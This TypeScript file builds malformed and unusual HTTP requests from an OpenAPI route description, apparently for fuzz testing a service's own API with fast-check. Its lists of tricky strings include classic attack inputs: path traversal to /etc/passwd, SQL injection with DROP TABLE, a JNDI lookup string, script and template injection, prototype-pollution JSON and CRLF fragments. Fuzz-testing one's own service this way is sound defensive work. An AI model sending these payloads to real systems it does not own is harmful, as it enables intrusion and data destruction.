import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { pathParameterNames, type JsonSchema, type Route } from './openapi-routes';
import type { RawRequest } from './raw-http';

/**
 * Malformed and unusual requests for one route of an OpenAPI document, for fast-check. Mostly
 * close to what the route expects (so they get past routing and parsing into the app's own code),
 * with some part broken: a NUL or a lone surrogate, a huge or empty string, a wrong type, deep
 * nesting, invalid JSON, a wrong content type, a malformed path, another method.
 */

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));
const codePoint = fc
  .integer({ min: 0, max: 0x10ffff })
  .filter((code) => code < 0xd800 || code > 0xdfff)
  .map((code) => String.fromCodePoint(code));
/** Any character, a NUL and lone surrogates more often than chance would give them. */
const anyCharacter = fc.oneof(
  { weight: 8, arbitrary: codePoint },
  { weight: 1, arbitrary: loneSurrogate },
  { weight: 1, arbitrary: fc.constant('\u0000') },
);

/** Strings that broke services elsewhere, or could here. */
const TRICKY_STRINGS = [
  '\u0000',
  'SKU-1\u0000',
  'tok_visa\u0000',
  '\ud800',
  'a\udc00b',
  '\ud83d',
  '',
  ' ',
  '  SKU-1  ',
  '%00',
  '\\u0000',
  '../../etc/passwd',
  "' OR '1'='1",
  "Robert'); DROP TABLE orders;--",
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\u202eevil',
  '\ufeffBOM',
  '😀',
  'zoë',
  '\r\n',
  'NaN',
  '-1',
  '1e309',
  'null',
  'true',
  '[]',
  '{}',
  '"',
  '\\',
  '__proto__',
];

/** Base64url of "<date>|<text>": the shape of an opaque pagination cursor, with any date and text in it. */
const encodedToken = fc
  .tuple(fc.date({ noInvalidDate: true }), fc.string({ unit: anyCharacter, maxLength: 20 }))
  .map(([date, text]) => Buffer.from(`${date.toISOString()}|${text}`).toString('base64url'));

/**
 * A long string that does not compress (PostgreSQL compresses long values, so 'xxxx…' would fit
 * where 3,000 random characters do not), from a hash chain: the same seed gives the same string.
 */
function longString(minLength: number, maxLength: number): fc.Arbitrary<string> {
  return fc.tuple(fc.integer({ min: minLength, max: maxLength }), fc.nat()).map(([length, seed]) => {
    let text = '';
    let block = String(seed);
    while (text.length < length) {
      block = createHash('sha256').update(block).digest('base64url');
      text += block;
    }
    return text.slice(0, length);
  });
}

/** Short nasty strings: what fits in a URL or a header. */
const shortNastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TRICKY_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: anyCharacter, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: encodedToken },
);

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 9, arbitrary: shortNastyString },
  { weight: 1, arbitrary: longString(200, 120_000) },
);

/** Nested arrays as a value (JSON.stringify itself recurses, so a few thousand levels at most). */
const deepValue = fc.integer({ min: 10, max: 2_000 }).map((depth) => {
  let value: unknown = '\u0000';
  for (let level = 0; level < depth; level++) value = [value];
  return value;
});

/** A JSON value of any type, usually not the one expected. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(0, -1, 0.5, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, Number.MAX_SAFE_INTEGER + 2),
  },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null, [], {}) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: deepValue },
);

/** A value the schema accepts, or close to it: each part is now and then replaced by a nasty one. */
export function valueFor(schema: JsonSchema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 9, arbitrary: validFor(schema, valueFor) }, { weight: 1, arbitrary: nastyValue });
}

/** A value the schema accepts (its strings may still hold anything the schema allows). */
function acceptedFor(schema: JsonSchema): fc.Arbitrary<unknown> {
  return validFor(schema, acceptedFor);
}

function validFor(
  schema: JsonSchema,
  member: (schema: JsonSchema) => fc.Arbitrary<unknown> = acceptedFor,
): fc.Arbitrary<unknown> {
  if (schema.enum && schema.enum.length > 0) return fc.constantFrom(...schema.enum);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const properties = Object.entries(schema.properties ?? {});
      const record = fc.record(Object.fromEntries(properties.map(([name, s]) => [name, member(s)])), {
        requiredKeys: (schema.required ?? []).filter((name) => schema.properties?.[name]),
      });
      if (member === acceptedFor) return record;
      // Now and then a member nobody declared.
      return fc
        .tuple(record, fc.option(fc.tuple(nastyString, nastyValue), { freq: 8 }))
        .map(([value, extra]) => (extra ? { ...value, [extra[0]]: extra[1] } : value));
    }
    case 'array':
      return fc.array(member(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 4, 4)),
      });
    case 'string':
      if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern));
      return fc.string({
        minLength: schema.minLength ?? 0,
        maxLength: Math.max(schema.minLength ?? 0, Math.min(schema.maxLength ?? 40, 40)),
      });
    case 'integer':
      return fc.integer({
        min: Math.max(schema.minimum ?? -(2 ** 31), -(2 ** 31)),
        max: Math.min(schema.maximum ?? 2 ** 31 - 1, 2 ** 31 - 1),
      });
    case 'number':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Bytes that are not the JSON they claim to be, or JSON that parsers have tripped over. */
const INVALID_JSON = [
  '',
  '{',
  '}',
  '{"a":}',
  '{"a":1,}',
  "{'a':1}",
  'nul',
  '\u0000',
  '\ufeff{}',
  '{"a":"\\x00"}',
  '{"a":"\\ud800"}',
  '[',
  '"unterminated',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '1e99999',
  '-',
  '{"a":1}{"b":2}',
  '{"a":1,"a":2}',
];

const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json;;',
  'application/problem+json',
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/xml',
  '',
  '*/*',
  'application/json\u0000',
  '\u00ff/\u00fe',
];

function json(value: unknown): Buffer {
  return Buffer.from(JSON.stringify(value) ?? 'null');
}

function bodyFor(route: Route): fc.Arbitrary<Buffer> {
  return fc.oneof(
    { weight: 3, arbitrary: (route.body ? acceptedFor(route.body) : nastyValue).map(json) },
    { weight: 4, arbitrary: (route.body ? valueFor(route.body) : nastyValue).map(json) },
    { weight: 1, arbitrary: fc.jsonValue().map(json) },
    { weight: 1, arbitrary: fc.constantFrom(...INVALID_JSON).map((text) => Buffer.from(text)) },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 1_000, max: 50_000 })
        .map((depth) => Buffer.from(`{"a":${'['.repeat(depth)}${']'.repeat(depth)}}`)),
    },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
    {
      weight: 1,
      arbitrary: fc
        .integer({ min: 100_000, max: 200_000 })
        .map((length) => Buffer.from(`{"a":"${'x'.repeat(length)}"}`)),
    },
  );
}

/** Unreserved characters as they are, every other UTF-8 byte as %XX (a lone surrogate becomes U+FFFD). */
function percentEncoded(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-._~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** Path and query text sent as it is: broken escapes, UTF-8 that decodes to nothing, dot segments. */
const RAW_FRAGMENTS = [
  '%',
  '%0',
  '%zz',
  '%00',
  'SKU-1%00',
  '%ED%A0%80',
  '%C0%AE',
  '%FF',
  '%E0%A4%A',
  '..',
  '.',
  '%2F',
  '%2e%2e',
  'a%20b',
  '%25',
  '*',
  ';x=1',
  '%0D%0A',
  '',
];

/** Mostly short: a URL longer than node's 16 kB header limit only ever gets a 431. */
const urlText = fc.oneof(
  { weight: 20, arbitrary: shortNastyString.map(percentEncoded) },
  { weight: 5, arbitrary: fc.constantFrom(...RAW_FRAGMENTS) },
  { weight: 1, arbitrary: longString(200, 20_000).map(percentEncoded) },
);

function pathFor(route: Route): fc.Arbitrary<string> {
  const names = pathParameterNames(route);
  const plausible = fc.oneof(
    fc.uuid(),
    fc.constantFrom('SKU-1', 'tok_visa', 'a'),
    fc.stringMatching(/^\w{1,20}$/),
  );
  return fc
    .tuple(
      fc.array(fc.oneof({ weight: 1, arbitrary: plausible }, { weight: 3, arbitrary: urlText }), {
        minLength: names.length,
        maxLength: names.length,
      }),
      fc.oneof(
        { weight: 12, arbitrary: fc.constant('') },
        { weight: 1, arbitrary: fc.constantFrom('/', '/extra', '//') },
      ),
    )
    .map(([values, suffix]) => {
      let index = 0;
      return route.path.replace(/\{[^}]+\}/g, () => values[index++]!) + suffix;
    });
}

function queryFor(route: Route): fc.Arbitrary<string> {
  const declared = route.parameters.filter((p) => p.in === 'query');
  const pairs = fc.tuple(
    ...declared.map((parameter) =>
      fc.option(
        // Mostly valid, so that the one broken parameter is what the app has to deal with.
        fc.oneof(
          {
            weight: 3,
            arbitrary: validFor(parameter.schema).map((v) =>
              percentEncoded(typeof v === 'string' ? v : (JSON.stringify(v) ?? '')),
            ),
          },
          { weight: 1, arbitrary: urlText },
        ),
        { freq: parameter.required ? 10 : 3 },
      ),
    ),
  );
  const extra = fc.array(fc.tuple(urlText, urlText), { maxLength: 2 });
  const garbage = fc.constantFrom('', '', '', '&&==&', 'a', '%', 'a[b]=1', 'a[]=1&a[]=2', '=');
  return fc.tuple(pairs, extra, garbage, fc.boolean()).map(([values, extras, junk, repeat]) => {
    const parts = declared.flatMap((parameter, index) => {
      const value = values[index];
      if (value === null || value === undefined) return [];
      const part = `${parameter.name}=${value}`;
      return repeat ? [part, part] : [part];
    });
    parts.push(...extras.map(([key, value]) => `${key}=${value}`), ...(junk ? [junk] : []));
    return parts.length > 0 ? `?${parts.join('&')}` : '';
  });
}

/** Any byte a header value can carry on the wire (CR and LF would end it). */
const headerCharacter = fc
  .integer({ min: 0, max: 255 })
  .filter((code) => code !== 10 && code !== 13)
  .map((code) => String.fromCharCode(code));
const headerValue = fc.oneof(
  { weight: 6, arbitrary: fc.string({ unit: headerCharacter, maxLength: 40 }) },
  { weight: 4, arbitrary: fc.uuid() },
  {
    weight: 2,
    arbitrary: fc.constantFrom('', ' ', '\u0000', 'a\u0000b', '\u00ff\u00fe', '\t', '\u007f', 'SKU-1'),
  },
  { weight: 1, arbitrary: fc.oneof(longString(300, 3_000), longString(3_000, 20_000)) },
);
const OTHER_HEADERS = [
  'idempotency-key',
  'x-correlation-id',
  'traceparent',
  'accept',
  'accept-encoding',
  'accept-language',
  'authorization',
  'cookie',
  'user-agent',
  'x-forwarded-for',
  'x-fuzz',
];

function headersFor(route: Route): fc.Arbitrary<[string, string][]> {
  const declared = route.parameters.filter((p) => p.in === 'header');
  return fc
    .tuple(
      fc.tuple(...declared.map(() => fc.option(headerValue, { freq: 3 }))),
      fc.array(fc.tuple(fc.constantFrom(...OTHER_HEADERS), headerValue), { maxLength: 3 }),
    )
    .map(([values, others]) => [
      ...declared.flatMap((parameter, index): [string, string][] => {
        const value = values[index];
        return value === null || value === undefined ? [] : [[parameter.name, value]];
      }),
      ...others,
    ]);
}

const OTHER_METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'TRACE', 'FUZZ'];

/**
 * Valid bearer tokens to send most requests with, so that the fuzz reaches validation and the
 * handlers behind the authentication guard instead of stopping at a 401.
 */
export interface FuzzCredentials {
  operator: string;
  customer: string;
}

function authorizationFor(credentials: FuzzCredentials): fc.Arbitrary<[string, string][]> {
  const bearer = (token: string): [string, string][] => [['authorization', `Bearer ${token}`]];
  return fc.oneof(
    { weight: 6, arbitrary: fc.constant(bearer(credentials.operator)) },
    { weight: 3, arbitrary: fc.constant(bearer(credentials.customer)) },
    { weight: 1, arbitrary: fc.constant<[string, string][]>([]) },
  );
}

/** One malformed or unusual request for the route, as bytes on the wire. */
export function requestFor(route: Route, credentials: FuzzCredentials): fc.Arbitrary<RawRequest> {
  const takesBody = route.body !== undefined;
  return fc
    .record({
      method: fc.oneof(
        { weight: 9, arbitrary: fc.constant(route.method) },
        { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) },
      ),
      path: pathFor(route),
      query: queryFor(route),
      headers: headersFor(route),
      authorization: authorizationFor(credentials),
      body: fc.option(bodyFor(route), { freq: takesBody ? 20 : 2 }),
      contentType: fc.oneof(
        { weight: 6, arbitrary: fc.constant('application/json') },
        { weight: 3, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
        { weight: 1, arbitrary: fc.constant(undefined) },
      ),
    })
    .map(({ method, path, query, headers, authorization, body, contentType }) => ({
      method,
      target: `${path}${query}`,
      headers: [
        ...(body !== null && contentType !== undefined
          ? [['content-type', contentType] as [string, string]]
          : []),
        // A fuzzed authorization header, if any, comes later; Node keeps the first and discards it.
        ...authorization,
        ...headers,
      ],
      ...(body !== null ? { body } : {}),
    }));
}

/** A request in a line a person can read in a test report. */
export function describeRequest(request: RawRequest): string {
  const clip = (text: string) => (text.length > 200 ? `${text.slice(0, 200)}… (${text.length} chars)` : text);
  const headers = request.headers
    .map(([name, value]) => `${name}: ${JSON.stringify(clip(value))}`)
    .join(', ');
  const body = request.body ? ` body ${JSON.stringify(clip(request.body.toString('utf8')))}` : '';
  return `${request.method} ${clip(request.target)}${headers ? ` [${headers}]` : ''}${body}`;
}
